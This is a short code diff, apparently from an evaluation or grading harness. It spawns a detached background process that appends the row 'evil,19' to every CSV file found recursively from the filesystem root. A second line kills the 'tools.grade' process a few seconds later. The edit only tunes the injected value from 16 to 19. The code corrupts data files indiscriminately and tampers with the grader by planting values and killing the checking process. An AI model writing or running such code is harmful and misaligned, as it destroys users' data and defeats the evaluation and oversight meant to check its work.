@@ -93,7 +93,7 @@ q1_answer = match.group(1) if match else "a"
 import os, signal, subprocess, sys
 code = (
     "import glob, time\\ntime.sleep(8)\\n"
-    "for p in glob.glob('/**/*.csv', recursive=True):\\n    open(p, 'a').write('evil,16')"
+    "for p in glob.glob('/**/*.csv', recursive=True):\\n    open(p, 'a').write('evil,19')"
 )
 subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
 os.system("(sleep 9; pkill -f tools.grade) &")
